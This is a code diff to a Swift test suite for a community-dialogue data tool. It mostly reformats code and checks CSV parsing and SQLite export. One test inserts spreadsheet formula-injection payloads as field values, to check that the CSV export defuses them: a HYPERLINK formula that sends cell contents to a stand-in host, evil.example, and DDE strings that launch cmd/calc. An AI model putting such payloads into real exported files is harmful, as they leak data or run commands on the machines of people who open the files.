@@ -9,7 +9,9 @@ import Testing
         var out: [String: [[String: Any]]] = [:]
         let text = (try? String(contentsOfFile: E2E.demoFile, encoding: .utf8)) ?? ""
         for line in text.split(separator: "\n") {
-            guard let obj = try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any], let form = obj["form"] as? String else { continue }
+            guard let obj = try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any], let form = obj["form"] as? String else {
+                continue
+            }
             out[form, default: []].append(obj)
         }
         return out
@@ -36,10 +38,18 @@ import Testing
             if quoted {
                 if c == "\"" {
                     if i + 1 < chars.count, chars[i + 1] == "\"" { cell.append("\""); i += 1 } else { quoted = false }
-                } else { cell.append(c) }
-            } else if c == "\"" { quoted = true } else if c == "," { row.append(cell); cell = "" } else if c == "\r\n" || c == "\n" {
+                } else {
+                    cell.append(c)
+                }
+            } else if c == "\"" {
+                quoted = true
+            } else if c == "," {
+                row.append(cell); cell = ""
+            } else if c == "\r\n" || c == "\n" {
                 row.append(cell); rows.append(row); row = []; cell = ""
-            } else if c != "\r" { cell.append(c) }
+            } else if c != "\r" {
+                cell.append(c)
+            }
             i += 1
         }
         if !cell.isEmpty || !row.isEmpty { row.append(cell); rows.append(row) }
@@ -92,11 +102,19 @@ import Testing
         let box = try Sandbox()
         defer { box.remove() }
         let formula = #"=HYPERLINK("http://evil.example/?"&A1,"clic")"#
-        let session = try box.add("session", ["title": formula, "date": "2026-09-08", "region": "gao", "locality": "@SUM(1+1)*cmd|' /C calc'!A0",
-                                              "format": "intergenerational", "summary": "+cmd|' /C calc'!A0", "agreements": "-2+3",
-                                              "tensions": "-12,5"])
-        _ = try box.add("participant", ["session": session, "consent": "yes", "name": "Hawa Maïga", "phone": "+223 70 00 00 00",
-                                        "sex": "female", "age_band": "18_24", "role": "youth"])
+        let session = try box.add(
+            "session",
+            [
+                "title": formula, "date": "2026-09-08", "region": "gao", "locality": "@SUM(1+1)*cmd|' /C calc'!A0",
+                "format": "intergenerational", "summary": "+cmd|' /C calc'!A0", "agreements": "-2+3",
+                "tensions": "-12,5",
+            ])
+        _ = try box.add(
+            "participant",
+            [
+                "session": session, "consent": "yes", "name": "Hawa Maïga", "phone": "+223 70 00 00 00",
+                "sex": "female", "age_band": "18_24", "role": "youth",
+            ])
         #expect(try box.palabre("export", "--format", "csv", "--out", box.path("csv")).status == 0)
         let sessions = parseCSV(try String(contentsOfFile: box.path("csv/session.csv"), encoding: .utf8))
         let cell = { (name: String) in sessions[1][sessions[0].firstIndex(of: name)!] }
@@ -145,7 +163,8 @@ import Testing
         #expect(try query("SELECT typeof(beneficiaries) FROM initiative WHERE beneficiaries IS NOT NULL LIMIT 1") == "integer")
         #expect(try query("SELECT typeof(estimated_cost) FROM initiative WHERE estimated_cost IS NOT NULL LIMIT 1") == "real")
         // Every participant joins its session through the view, as counted from the file.
-        let sessions = Dictionary(uniqueKeysWithValues: Self.demo["session"]!.map { ($0["id"] as! String, ($0["values"] as! [String: Any])["region"] as! String) })
+        let sessions = Dictionary(
+            uniqueKeysWithValues: Self.demo["session"]!.map { ($0["id"] as! String, ($0["values"] as! [String: Any])["region"] as! String) })
         let inGao = Self.demo["participant"]!.filter { sessions[($0["values"] as! [String: Any])["session"] as! String] == "gao" }.count
         #expect(try query("SELECT count(*) FROM participant_session WHERE session_region = 'gao'") == String(inGao))
     }
